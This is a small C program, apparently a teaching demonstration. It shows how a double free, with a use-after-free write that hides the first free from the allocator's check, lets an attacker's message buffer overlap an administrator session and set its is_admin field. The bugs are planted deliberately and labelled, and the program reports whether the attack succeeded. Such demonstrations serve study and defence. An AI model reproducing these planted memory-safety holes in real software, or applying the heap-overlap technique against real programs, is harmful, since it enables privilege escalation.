// Double free: one block, two owners.
//
// A session is closed twice: the error path closes it, and so does the caller. In between, the dangling pointer is used
// once more, to note the reason; that write hides the first free from the allocator's own check.
// The attacker gains: his message and the next administrator's session lie in the same memory. He writes his message,
// and is administrator.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

typedef struct session_s {
  char user[8];
  long state;
  long is_admin;
  char rest[24];
} session_t;

static void* volatile keep;

static void close_session(session_t* session, long reason) {
  free(session);
  keep = session;
  ((session_t*)keep)->state = reason;  // bug: used after free
}

int main(void) {
  session_t* session = malloc(sizeof(*session));
  close_session(session, 1);
  close_session(keep, 2);  // bug: closed again

  session_t* mine = malloc(sizeof(*mine));
  memset(mine, 0, sizeof(*mine));
  char* message = malloc(sizeof(session_t));
  for (int i = 0; i < 4 && (void*)message != (void*)mine; i++) message = malloc(sizeof(session_t));
  memset(message, 'A', sizeof(session_t));

  if (mine->is_admin == 0) return puts("attack failed: the session is not changed"), 1;
  printf("ATTACK SUCCEEDED: session and message share %p, is_admin = %#lx\n", (void*)mine,
         (unsigned long)mine->is_admin);
  return 0;
}
